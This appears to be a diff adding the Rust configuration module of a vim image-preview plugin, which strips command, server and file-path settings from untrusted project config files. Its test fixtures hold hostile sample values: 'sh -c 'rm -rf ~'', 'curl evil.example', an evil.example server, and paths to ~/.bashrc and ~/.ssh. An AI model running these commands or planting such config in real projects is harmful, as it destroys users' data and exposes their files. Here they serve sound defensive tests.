@@ -0,0 +1,290 @@
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::time::SystemTime;
+
+use miniserde::{json, Deserialize};
+
+use crate::error::{Error, Result};
+use crate::process;
+use crate::utils;
+
+/// Name of the project configuration, searched in the current directory and its parents
+const PROJECT_FILE: &str = ".graphical-preview.json";
+
+/// User configuration, passed as JSON from `g:graphical_preview_config`
+///
+/// All fields are optional, missing fields keep their default behaviour. The configuration may
+/// also be read from a global and a project file, see `files`.
+#[derive(Debug, Default, Clone, PartialEq, Deserialize)]
+pub struct Config {
+    /// Number of concurrent renders per content type, e.g. `{"gnuplot": 1}`
+    pub concurrency: Option<BTreeMap<String, usize>>,
+    /// Graphics protocol, one of `auto`, `sixel`, `kitty`, `iterm` or `ueberzug`, detected if missing
+    pub backend: Option<String>,
+    /// Niceness of background rendering, defaults to 10
+    pub nice: Option<i32>,
+    /// Use the idle IO scheduling class for background rendering, defaults to true
+    pub idle_io: Option<bool>,
+    /// Additional fence names, e.g. `{"equation": "math"}`
+    pub aliases: Option<BTreeMap<String, String>>,
+    /// Time in milliseconds above which a node is reported as slow, defaults to 500
+    pub slow_threshold: Option<u64>,
+    /// Bytes written to the terminal before a draw yields back to vim, defaults to 512 KiB
+    pub draw_budget: Option<usize>,
+    /// Time in milliseconds the first draw of a document waits for visible nodes, defaults to 300
+    pub initial_budget: Option<u64>,
+    /// URL of a PlantUML server, e.g. `http://localhost:8080`, the local binary is used if missing
+    pub plantuml_server: Option<String>,
+    /// Folders searched for `\includegraphics` in latex fences, relative to the file of the buffer
+    pub asset_dirs: Option<Vec<String>>,
+    /// Root of the Obsidian vault searched for `![[image.png]]` embeds, relative to the file of the
+    /// buffer, defaults to the closest folder containing `.obsidian`
+    pub vault: Option<String>,
+    /// Documents or folders trusted to compile latex fences with `-shell-escape`
+    pub shell_escape: Option<Vec<String>>,
+    /// Commands rendering additional fences, e.g. `{"gri": "gri-to-svg {input} {output}"}`
+    pub handlers: Option<BTreeMap<String, String>>,
+    /// Play animated GIFs, otherwise their first frame is shown, defaults to true
+    pub animate: Option<bool>,
+    /// Filters applied to the content of fences per fence name, `*` applies to all fences
+    pub filters: Option<BTreeMap<String, Vec<Filter>>>,
+    /// Draw gnuplot and graphviz with the colors of the terminal, defaults to true
+    pub theme: Option<bool>,
+    /// Tty or FIFO the terminal output is mirrored to, e.g. `/dev/pts/3` of a second screen
+    pub mirror: Option<String>,
+    /// Number of previous figures kept per named fence, defaults to 10
+    pub history: Option<usize>,
+    /// Position of images in the window, one of `left`, `center` or `right`, defaults to `left`
+    pub align: Option<String>,
+    /// Write simple math like `\alpha^2 \leq \beta_1` as Unicode text instead of rendering it,
+    /// defaults to false
+    pub unicode_math: Option<bool>,
+    /// Lines added to the preamble of math and latex fences, e.g. `["\\usepackage{physics}"]`
+    pub preamble: Option<Vec<String>>,
+    /// Engine compiling math and latex fences, one of `latex`, `xelatex` or `lualatex`, defaults
+    /// to `latex` unless the document needs another one
+    pub latex_engine: Option<String>,
+    /// Step the SIXEL palette down while the terminal can't keep up with the images and back up
+    /// once it does, defaults to true
+    pub adaptive_quality: Option<bool>,
+    /// Folders whose project files may set the settings dropped by `Config::project`, only read
+    /// from vim and the global file
+    pub trusted_projects: Option<Vec<String>>,
+}
+
+/// Filter of the content of fences, either a replacement of a regular expression or a command
+/// reading the content on stdin and printing the filtered content
+#[derive(Debug, Default, Clone, PartialEq, Deserialize)]
+pub struct Filter {
+    /// Regular expression replaced by `replace`, which may refer to groups like `$1`
+    pub pattern: Option<String>,
+    pub replace: Option<String>,
+    pub command: Option<String>,
+}
+
+impl Config {
+    pub fn parse(input: &str) -> Result<Config> {
+        json::from_str(input).map_err(|_| Error::InvalidConfig)
+    }
+
+    pub fn read(path: &Path) -> Result<Config> {
+        let content = std::fs::read_to_string(path).map_err(Error::Io)?;
+
+        Config::parse(&content)
+    }
+
+    /// Settings of `other` take precedence
+    pub fn merge(self, other: Config) -> Config {
+        Config {
+            concurrency: other.concurrency.or(self.concurrency),
+            backend: other.backend.or(self.backend),
+            nice: other.nice.or(self.nice),
+            idle_io: other.idle_io.or(self.idle_io),
+            aliases: other.aliases.or(self.aliases),
+            slow_threshold: other.slow_threshold.or(self.slow_threshold),
+            draw_budget: other.draw_budget.or(self.draw_budget),
+            initial_budget: other.initial_budget.or(self.initial_budget),
+            plantuml_server: other.plantuml_server.or(self.plantuml_server),
+            asset_dirs: other.asset_dirs.or(self.asset_dirs),
+            vault: other.vault.or(self.vault),
+            shell_escape: other.shell_escape.or(self.shell_escape),
+            handlers: other.handlers.or(self.handlers),
+            animate: other.animate.or(self.animate),
+            filters: other.filters.or(self.filters),
+            theme: other.theme.or(self.theme),
+            mirror: other.mirror.or(self.mirror),
+            history: other.history.or(self.history),
+            align: other.align.or(self.align),
+            unicode_math: other.unicode_math.or(self.unicode_math),
+            preamble: other.preamble.or(self.preamble),
+            latex_engine: other.latex_engine.or(self.latex_engine),
+            adaptive_quality: other.adaptive_quality.or(self.adaptive_quality),
+            trusted_projects: other.trusted_projects.or(self.trusted_projects),
+        }
+    }
+
+    /// Settings of the project file at `path`, which may come with any cloned repository
+    ///
+    /// Unless `base`, the configuration of vim and the global file, trusts the folder of the file,
+    /// settings running commands, writing files, sending fences elsewhere or reading files outside
+    /// of the project are dropped. A project file can't trust itself.
+    pub fn project(self, path: &Path, base: Option<&Config>) -> Config {
+        let trusted = base.is_some_and(|base| base.trusts(path));
+        let config = Config { trusted_projects: None, ..self };
+        if trusted {
+            return config;
+        }
+
+        // replacements of regular expressions are kept, commands are not
+        let filters = config.filters.clone().map(|filters| filters.into_iter()
+            .map(|(name, filters)| (name, filters.into_iter().filter(|x| x.command.is_none()).collect()))
+            .collect());
+
+        Config {
+            mirror: None,
+            preamble: None,
+            // only the user may allow latex to run commands
+            shell_escape: None,
+            handlers: None,
+            filters,
+            // fences would be posted to a server of the repository's choice
+            plantuml_server: None,
+            // both may point outside of the project
+            vault: None,
+            asset_dirs: None,
+            ..config
+        }
+    }
+
+    /// Whether the project file at `path` lies in a folder listed in `trusted_projects`
+    fn trusts(&self, path: &Path) -> bool {
+        let dir = path.parent().unwrap_or(path);
+
+        self.trusted_projects.iter().flatten().any(|x| dir.starts_with(x))
+    }
+
+    /// Apply settings which live outside of the renderer
+    pub fn apply(&self) {
+        for (kind, limit) in self.concurrency.iter().flatten() {
+            process::set_limit(kind, *limit);
+        }
+
+        process::set_priority(self.nice.unwrap_or(10), self.idle_io.unwrap_or(true));
+        utils::set_plantuml_server(self.plantuml_server.clone());
+    }
+}
+
+/// Global configuration file and the project configuration file, if there is one
+///
+/// The global file is `$XDG_CONFIG_HOME/graphical-preview/config.json`, it is listed even if it
+/// doesn't exist yet so that it is picked up once created.
+pub fn files() -> Vec<PathBuf> {
+    let config_home = std::env::var_os("XDG_CONFIG_HOME")
+        .map(PathBuf::from)
+        .or_else(|| std::env::var_os("HOME").map(|x| Path::new(&x).join(".config")));
+
+    let mut files = config_home.into_iter()
+        .map(|x| x.join("graphical-preview").join("config.json"))
+        .collect::<Vec<_>>();
+
+    if let Ok(dir) = std::env::current_dir() {
+        files.extend(dir.ancestors()
+            .map(|x| x.join(PROJECT_FILE))
+            .find(|x| x.exists()));
+    }
+
+    files
+}
+
+/// Merge the existing files in order into a configuration
+///
+/// Project files are restricted by `Config::project`, trusted by what was merged before them.
+pub fn merge_files(mut merged: Option<Config>, files: &[PathBuf]) -> Result<Option<Config>> {
+    for path in files.iter().filter(|x| x.exists()) {
+        let mut file = Config::read(path)?;
+        if is_project(path) {
+            file = file.project(path, merged.as_ref());
+        }
+        merged = Some(merged.unwrap_or_default().merge(file));
+    }
+
+    Ok(merged)
+}
+
+/// Whether the file is a project file, whose settings are restricted by `Config::project`
+pub fn is_project(path: &Path) -> bool {
+    path.file_name().is_some_and(|x| x == PROJECT_FILE)
+}
+
+/// Modification time of a file, `None` if it doesn't exist
+pub fn modified(path: &Path) -> Option<SystemTime> {
+    std::fs::metadata(path).and_then(|x| x.modified()).ok()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn project_file() -> Config {
+        Config {
+            mirror: Some("/home/user/.bashrc".to_string()),
+            shell_escape: Some(vec!["/".to_string()]),
+            handlers: Some(BTreeMap::from([("gri".to_string(), "sh -c 'rm -rf ~'".to_string())])),
+            filters: Some(BTreeMap::from([("*".to_string(), vec![
+                Filter { pattern: Some("%%.*".to_string()), ..Default::default() },
+                Filter { command: Some("curl evil.example".to_string()), ..Default::default() },
+            ])])),
+            preamble: Some(vec!["\\usepackage{physics}".to_string()]),
+            trusted_projects: Some(vec!["/".to_string()]),
+            align: Some("center".to_string()),
+            plantuml_server: Some("http://evil.example".to_string()),
+            vault: Some("/home/user".to_string()),
+            asset_dirs: Some(vec!["/home/user/.ssh".to_string()]),
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn untrusted_project_drops_settings() {
+        let path = Path::new("/tmp/repo/.graphical-preview.json");
+        let config = project_file().project(path, None);
+
+        assert_eq!(config.mirror, None);
+        assert_eq!(config.preamble, None);
+        assert_eq!(config.shell_escape, None);
+        assert_eq!(config.handlers, None);
+        assert_eq!(config.trusted_projects, None);
+        assert_eq!(config.plantuml_server, None);
+        assert_eq!(config.vault, None);
+        assert_eq!(config.asset_dirs, None);
+        let filters = config.filters.unwrap();
+        assert_eq!(filters["*"].len(), 1);
+        assert!(filters["*"][0].pattern.is_some());
+        assert_eq!(config.align.as_deref(), Some("center"));
+    }
+
+    #[test]
+    fn trusted_project_keeps_settings() {
+        let base = Config { trusted_projects: Some(vec!["/tmp/repo".to_string()]), ..Default::default() };
+        let config = project_file().project(Path::new("/tmp/repo/.graphical-preview.json"), Some(&base));
+        assert!(config.mirror.is_some() && config.preamble.is_some());
+
+        let config = project_file().project(Path::new("/tmp/other/.graphical-preview.json"), Some(&base));
+        assert!(config.mirror.is_none() && config.preamble.is_none());
+    }
+
+    #[test]
+    fn merged_project_file_drops_handlers() {
+        let dir = std::env::temp_dir().join(format!("graphical-preview-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let (global, project) = (dir.join("config.json"), dir.join(PROJECT_FILE));
+        std::fs::write(&global, r#"{"align": "center"}"#).unwrap();
+        std::fs::write(&project, r#"{"handlers": {"gri": "sh -c 'rm -rf ~'"}, "trusted_projects": ["/"]}"#).unwrap();
+
+        let merged = merge_files(None, &[global, project]).unwrap().unwrap();
+        std::fs::remove_dir_all(&dir).unwrap();
+
+        assert_eq!(merged.handlers, None);
+        assert_eq!(merged.align.as_deref(), Some("center"));
+    }
+}